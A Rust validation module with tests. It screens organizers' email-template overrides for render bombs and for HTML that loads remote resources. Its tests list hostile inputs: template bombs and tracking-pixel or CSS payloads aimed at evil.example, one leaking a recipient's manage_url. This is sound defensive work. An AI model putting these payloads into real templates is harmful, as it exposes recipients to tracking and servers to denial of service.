//! The safety check of organizers' overrides, run when one is saved ([`check`]) and again
//! before each is rendered ([`safe_parts`]): only conditions, loops and filters that cannot
//! build ever longer texts, only the kind's variables, and no HTML that loads anything from
//! elsewhere when the email is opened.

use std::collections::BTreeSet;

use super::{env, Capped, Parts, MAX_OUTPUT};
use crate::email::{EmailKind, COMMON_VARIABLES};
use crate::error::{AppError, AppResult, FieldError};

/// The statements an override may use: conditions and loops over the email's values.
/// Assignment (`set`, block `set`), macros, `call` and `filter` blocks could build ever longer
/// texts from one another, and `include`/`import`/`extends` reach other templates.
const OVERRIDE_TAGS: &[&str] = &[
    "if",
    "elif",
    "else",
    "endif",
    "for",
    "endfor",
    "raw",
    "endraw",
    "autoescape",
    "endautoescape",
];

/// The filters an override may use: none of them makes a text much longer than what it is
/// given, or costs more than one pass over it (`replace`, `join`, `indent`, `center`, `format`
/// and `urlencode` can make it longer; `sort`, `unique`, `min`, `max` and `sum` work over whole
/// lists; `map` and `select` call filters by name).
const OVERRIDE_FILTERS: &[&str] = &[
    "e",
    "escape",
    "safe",
    "upper",
    "lower",
    "title",
    "capitalize",
    "trim",
    "default",
    "d",
    "length",
    "count",
    "first",
    "last",
    "abs",
    "round",
    "int",
    "float",
    "bool",
    "reverse",
    "items",
    "dictsort",
];

/// HTML that makes a mail client fetch something when the email is opened: a tracker could
/// learn every recipient's link from it. Only inline parts (`cid:`) may be loaded.
const LOADING_ATTRIBUTES: &[&str] = &[
    "src",
    "srcset",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "data",
    "action",
    "formaction",
    "href",
    "http-equiv",
];
const LOADING_ELEMENTS: &[&str] = &[
    "link", "base", "iframe", "frame", "object", "embed", "script", "style", "svg", "video",
    "audio", "source", "track", "image", "use",
];

/// Checks an override against what every override must respect, whatever its values: only
/// [`OVERRIDE_TAGS`] and [`OVERRIDE_FILTERS`], no operator that builds text (`~`, `+`, `*`,
/// `**`), and no HTML that loads a resource from elsewhere. Errors name the part.
pub fn safe_parts(parts: &Parts) -> Result<(), Vec<FieldError>> {
    let errors: Vec<FieldError> = [
        ("subject", &parts.subject, false),
        ("text", &parts.text, false),
        ("html", &parts.html, true),
    ]
    .into_iter()
    .filter_map(|(field, source, html)| {
        unsafe_part(source, html).map(|why| FieldError::new(field, why))
    })
    .collect();
    if errors.is_empty() {
        Ok(())
    } else {
        Err(errors)
    }
}

/// Why one part breaks [`safe_parts`], if it does.
fn unsafe_part(source: &str, html: bool) -> Option<String> {
    unsafe_syntax(source).or_else(|| html.then(|| loads_remote(source)).flatten())
}

/// Why `source` uses something an override may not, if it does.
fn unsafe_syntax(source: &str) -> Option<String> {
    use minijinja::machinery::{tokenize, Token, WhitespaceConfig};
    let tokens = tokenize(
        source,
        false,
        minijinja::syntax::SyntaxConfig,
        WhitespaceConfig::default(),
    );
    let mut before: Option<Token<'_>> = None;
    let mut previous: Option<Token<'_>> = None;
    for token in tokens {
        // A syntax error is reported by the compile step, with its position.
        let Ok((token, _)) = token else {
            return None;
        };
        if let (Some(Token::Ident(name)), Token::ParenOpen) = (&previous, &token) {
            let allowed = match &before {
                // A filter's or a test's arguments.
                Some(Token::Pipe | Token::Ident("is" | "not")) => true,
                // `loop.cycle(…)`, nothing else of a value.
                Some(Token::Dot) => *name == "cycle",
                _ => *name == "range",
            };
            if !allowed {
                return Some(format!(
                    "calling `{name}(…)` is not allowed in an email template; only range(…) and filters"
                ));
            }
        }
        if let Token::Ident("recursive") = token {
            return Some("a recursive loop is not allowed in an email template".to_string());
        }
        match (&previous, &token) {
            (Some(Token::BlockStart), Token::Ident(tag)) if !OVERRIDE_TAGS.contains(tag) => {
                return Some(format!(
                    "`{{% {tag} %}}` is not allowed in an email template: use {{% if %}}, {{% for %}} and {{{{ value }}}}"
                ));
            }
            (Some(Token::Pipe), Token::Ident(filter)) if !OVERRIDE_FILTERS.contains(filter) => {
                return Some(format!(
                    "the filter `{filter}` is not allowed in an email template; allowed: {}",
                    OVERRIDE_FILTERS.join(", ")
                ));
            }
            (_, Token::Plus | Token::Mul | Token::Pow | Token::Tilde) => {
                return Some(format!(
                    "the operator {token} is not allowed in an email template: write values side by side, like {{{{ a }}}} {{{{ b }}}}"
                ));
            }
            _ => {}
        }
        before = previous.take();
        previous = Some(token);
    }
    None
}

/// Why `html` would load a resource from elsewhere when the email is opened, if it would.
pub(super) fn loads_remote(html: &str) -> Option<String> {
    let lower = html.to_lowercase();
    for css in ["url(", "@import", "image-set("] {
        if lower.contains(css) {
            return Some(format!(
                "`{css}` is not allowed: an email may not load anything from elsewhere when opened"
            ));
        }
    }
    let mut rest = lower.as_str();
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let end = tag_end(rest);
        let tag = &rest[..end];
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == ':')
            .collect();
        if LOADING_ELEMENTS.contains(&name.as_str()) {
            return Some(format!(
                "<{name}> is not allowed: an email may not load anything from elsewhere when opened"
            ));
        }
        for (attribute, value) in attributes(tag) {
            let inline = value.starts_with("cid:") || value.replace(' ', "") == "{{qr_src}}";
            let link = attribute == "href" && name == "a";
            if LOADING_ATTRIBUTES.contains(&attribute.as_str()) && !inline && !link {
                return Some(format!(
                    "`{attribute}=\"{value}\"` on <{name}> is not allowed: only inline images (cid:, like {{{{ qr_src }}}}) may be loaded when an email is opened"
                ));
            }
            if attribute == "style" && value.contains(['(', '&', '\\', '@']) {
                return Some(format!(
                    "`style=\"{value}\"` on <{name}> is not allowed: a style may not call a CSS function or hold escapes (`(`, `&`, `\\`, `@`)"
                ));
            }
        }
        rest = &rest[end..];
    }
    None
}

/// Where the inside of a tag ends: at the first `>` outside a quoted attribute value (or at the
/// end of the text).
fn tag_end(rest: &str) -> usize {
    let mut quote = None;
    for (i, c) in rest.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '>') => return i,
            (None, _) => {}
        }
    }
    rest.len()
}

/// The attributes of the inside of a tag (`img src="x" alt=y`), names and values trimmed.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = tag
        .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == ':')
        .trim_start();
    while !rest.is_empty() {
        let name_end = rest
            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_end].trim().to_string();
        rest = rest[name_end..].trim_start();
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let after = after.trim_start();
            let (v, remaining) = match after.chars().next() {
                Some(q @ ('"' | '\'')) => {
                    let inner = &after[1..];
                    let close = inner.find(q).unwrap_or(inner.len());
                    (&inner[..close], inner.get(close + 1..).unwrap_or(""))
                }
                _ => {
                    let close = after.find(char::is_whitespace).unwrap_or(after.len());
                    (&after[..close], &after[close..])
                }
            };
            value = v.split_whitespace().collect::<Vec<_>>().join(" ");
            rest = remaining.trim_start();
        } else if name.is_empty() {
            rest = rest.get(1..).unwrap_or("").trim_start();
        }
        if !name.is_empty() {
            out.push((name, value));
        }
    }
    out
}

/// minijinja's own global functions, which a template may call.
const GLOBALS: &[&str] = &["range", "dict", "namespace", "debug"];

/// Plausible values for every variable a kind's templates may use.
pub(super) fn sample_context(kind: EmailKind) -> serde_json::Value {
    let mut ctx = serde_json::Map::new();
    for name in COMMON_VARIABLES.iter().chain(kind.variables()) {
        let value = match *name {
            "expires_hours" => serde_json::json!(72),
            "booth_area_m2" => serde_json::json!(18),
            "qr_src" => serde_json::json!("cid:badge-qr@salon.example"),
            "changes" => {
                serde_json::json!([{"title": "Keynote", "change": "moved", "when": "12 avril 2027, 09:30–10:30", "room": "Salle Atlas",
                    "was_when": "12 avril 2027, 11:00–12:00", "was_room": "Salle Tensift"}])
            }
            "meetings" => serde_json::json!([
                {"time": "10:20–10:40", "with": "Atlas Outsourcing", "booth_code": "A04", "hall": "Hall A", "host_name": "Karim Bennani"},
                {"time": "14:00–14:20", "with": "Rif Call", "booth_code": "B02", "hall": "Hall B", "host_name": ""}
            ]),
            "sessions" => serde_json::json!([
                {"time": "11:00–12:00", "title": "Keynote: the contact centre in 2030", "room": "Salle Atlas"}
            ]),
            other => serde_json::json!(format!("sample {other}")),
        };
        ctx.insert((*name).to_string(), value);
    }
    serde_json::Value::Object(ctx)
}

/// Checks an override before it is saved: each part must compile and use only the kind's
/// variables. Errors name the part (`subject`, `text`, `html`).
pub fn check(kind: EmailKind, parts: &Parts) -> AppResult<()> {
    let env = env();
    let mut errors = Vec::new();
    for (field, suffix, source) in [
        ("subject", "subject", &parts.subject),
        ("text", "txt", &parts.text),
        ("html", "html", &parts.html),
    ] {
        if source.trim().is_empty() {
            errors.push(FieldError::new(field, "must not be empty"));
            continue;
        }
        if let Some(why) = unsafe_part(source, field == "html") {
            errors.push(FieldError::new(field, why));
            continue;
        }
        match env.template_from_named_str(&format!("{kind}.{suffix}"), source) {
            Err(e) => errors.push(FieldError::new(
                field,
                format!(
                    "template syntax error: {}",
                    e.detail().unwrap_or(&e.to_string())
                ),
            )),
            Ok(tmpl) => {
                // Unknown filters, tests or bad arguments only fail when rendering: try it once
                // with sample values, so a broken override is refused now, not at every send.
                let mut out = Capped::default();
                let rendered = tmpl
                    .render_captured_to(sample_context(kind), &mut out)
                    .map(|_| ());
                if let (Ok(()), "html") = (&rendered, field) {
                    if let Some(why) = loads_remote(&String::from_utf8_lossy(&out.bytes)) {
                        errors.push(FieldError::new(field, format!("once rendered: {why}")));
                        continue;
                    }
                }
                if let Err(e) = rendered {
                    let why = if out.full {
                        format!("renders to more than {MAX_OUTPUT} bytes")
                    } else {
                        format!(
                            "cannot be rendered: {}",
                            e.detail().unwrap_or(&e.to_string())
                        )
                    };
                    errors.push(FieldError::new(field, why));
                    continue;
                }
                let unknown: BTreeSet<String> = tmpl
                    .undeclared_variables(false)
                    .into_iter()
                    .filter(|v| !kind.allows_variable(v) && !GLOBALS.contains(&v.as_str()))
                    .collect();
                if !unknown.is_empty() {
                    let list = unknown.into_iter().collect::<Vec<_>>().join(", ");
                    errors.push(FieldError::new(field, format!("unknown variable: {list}")));
                }
            }
        }
    }
    if errors.is_empty() {
        Ok(())
    } else {
        Err(AppError::Validation(errors))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::Language;
    use crate::email::templates::{render_parts, render_with};

    #[test]
    fn overrides_are_checked() {
        let good = Parts {
            subject: "{{ event_name }}".into(),
            text: "Hi {{ name }} {{ confirm_url }}".into(),
            html: "<p>{{ name }}</p>".into(),
        };
        assert!(check(EmailKind::RegistrationConfirm, &good).is_ok());
        let bad = Parts {
            subject: "{{ event_name".into(),
            text: "{{ password }}".into(),
            html: "{{ name|titel }}".into(),
        };
        match check(EmailKind::RegistrationConfirm, &bad) {
            Err(AppError::Validation(errors)) => {
                assert_eq!(errors[0].field, "subject");
                assert!(errors[1].message.contains("password"), "{errors:?}");
                assert_eq!(
                    errors[2].field, "html",
                    "an unknown filter is refused: {errors:?}"
                );
                assert!(errors[2].message.contains("titel"), "{errors:?}");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_loop_spends_its_budget_instead_of_the_server() {
        let looping = Parts {
            subject: "{{ event_name }}".into(),
            text: "{% for i in range(100000000) %}{{ i }}{% endfor %}".into(),
            html: "<p>x</p>".into(),
        };
        assert!(matches!(
            check(EmailKind::AlreadyRegistered, &looping),
            Err(AppError::Validation(_))
        ));
        let guarded = Parts {
            text: "{% if name != \"sample name\" %}{% for i in range(100000000) %}{{ i }}{% endfor %}{% endif %}".into(),
            ..looping
        };
        let checked = check(EmailKind::AlreadyRegistered, &guarded);
        assert!(
            checked.is_ok(),
            "sample values pass: {:?}",
            checked.err().map(|e| e.problem().errors)
        );
        let started = std::time::Instant::now();
        let real = render_parts(
            EmailKind::AlreadyRegistered,
            Language::Fr,
            &guarded,
            &serde_json::json!({"name": "Amina"}),
        );
        assert!(real.is_err(), "the real name spends the budget");
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
    }

    #[test]
    fn a_template_bomb_is_refused_when_saved_and_when_rendered() {
        let bomb = Parts {
            subject: "{{ event_name }}".into(),
            text:
                "{% if name != \"sample name\" %}{% set a = \"x\"*100000000 %}{{a}}{{a}}{% endif %}"
                    .into(),
            html: "<p>x</p>".into(),
        };
        match check(EmailKind::RegistrationConfirm, &bomb) {
            Err(AppError::Validation(errors)) => {
                assert_eq!(errors[0].field, "text");
                assert!(errors[0].message.contains("set"), "{errors:?}");
            }
            other => panic!("{other:?}"),
        }
        for text in [
            "{{ name ~ name }}",
            "{{ name * 3 }}",
            "{{ [1] + [2] }}",
            "{{ name|replace(\"\", name) }}",
            "{{ name|indent(100000000) }}",
            "{% macro m(x) %}{{ x }}{{ x }}{% endmacro %}{{ m(m(name)) }}",
            "{% set x %}{{ name }}{{ name }}{% endset %}{{ x }}",
            "{% for x in [1, 2] recursive %}{{ loop([2])|trim }}{% endfor %}",
            "{% for i in range(100) %}{{ range(1000)|sort|last }}{% endfor %}",
            "{{ namespace(a=1) }}{{ dict(a=1) }}",
            "{{ debug() }}",
        ] {
            let parts = Parts {
                text: text.into(),
                ..bomb.clone()
            };
            assert!(
                check(EmailKind::RegistrationConfirm, &parts).is_err(),
                "{text} accepted"
            );
        }
        // One stored before these rules (or written to the database by hand) is not rendered:
        // the built-in text goes out and the failure is kept with the email.
        let started = std::time::Instant::now();
        let out = render_with(
            Some(bomb),
            EmailKind::RegistrationConfirm,
            Language::Fr,
            &serde_json::json!({"name": "Amina"}),
        )
        .expect("rendered");
        assert!(out.fallback.is_some());
        assert!(out.parts.text.len() < MAX_OUTPUT);
        assert!(started.elapsed() < std::time::Duration::from_secs(1));
    }

    #[test]
    fn output_is_capped() {
        let long = Parts {
            subject: "{{ event_name }}".into(),
            text: format!(
                "{{% if name != \"sample name\" %}}{{% for i in range(1000) %}}{{% for j in range(1000) %}}{}{{% endfor %}}{{% endfor %}}{{% endif %}}",
                "x".repeat(1000)
            ),
            html: "<p>x</p>".into(),
        };
        assert!(check(EmailKind::AlreadyRegistered, &long).is_ok());
        let real = render_parts(
            EmailKind::AlreadyRegistered,
            Language::Fr,
            &long,
            &serde_json::json!({"name": "Amina"}),
        );
        match real {
            Err(e) => assert!(format!("{e:?}").contains("more than"), "{e:?}"),
            Ok(p) => panic!("rendered {} bytes", p.text.len()),
        }
    }

    #[test]
    fn an_override_may_not_load_anything_when_the_email_is_opened() {
        let with = |html: &str| Parts {
            subject: "{{ event_name }}".into(),
            text: "{{ name }}".into(),
            html: html.into(),
        };
        for html in [
            "<img src=\"https://evil.example/p.gif?t={{ manage_url }}\">",
            "<img src='//evil.example/p.gif'>",
            "<IMG SRC=https://evil.example/p.gif>",
            "<table background=\"https://evil.example/b.png\"></table>",
            "<div style=\"background:url(https://evil.example/x)\"></div>",
            "<link rel=stylesheet href=\"https://evil.example/s.css\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<iframe src=\"cid:x\"></iframe>",
            "<img srcset=\"https://evil.example/1x.png 1x\">",
            "<img alt=\">\" src=\"https://evil.example/p.gif\">",
            "<img {{ \"src\" }}=\"https://evil.example/p.gif\">",
            "<div style=\"background:url&#40;https://evil.example/x&#41;\"></div>",
            "<div style=\"background-image:image-set('https://evil.example/x' 1x)\"></div>",
            "<img/src=\"https://evil.example/p.gif\">",
        ] {
            assert!(
                check(EmailKind::RegistrationConfirmed, &with(html)).is_err(),
                "{html} accepted"
            );
        }
        for html in [
            "<meta charset=\"utf-8\"><p><a href=\"{{ manage_url }}\">{{ name }}</a></p>",
            "<img src=\"{{ qr_src }}\" alt=\"QR\">",
            "<img alt=\"QR\" src=\"cid:badge-qr@salon.example\">",
            "<p style=\"color:#14365d;font-size:16px\">{{ name }}</p>",
        ] {
            let checked = check(EmailKind::RegistrationConfirmed, &with(html));
            assert!(
                checked.is_ok(),
                "{html}: {:?}",
                checked.err().map(|e| e.problem())
            );
        }
    }
}
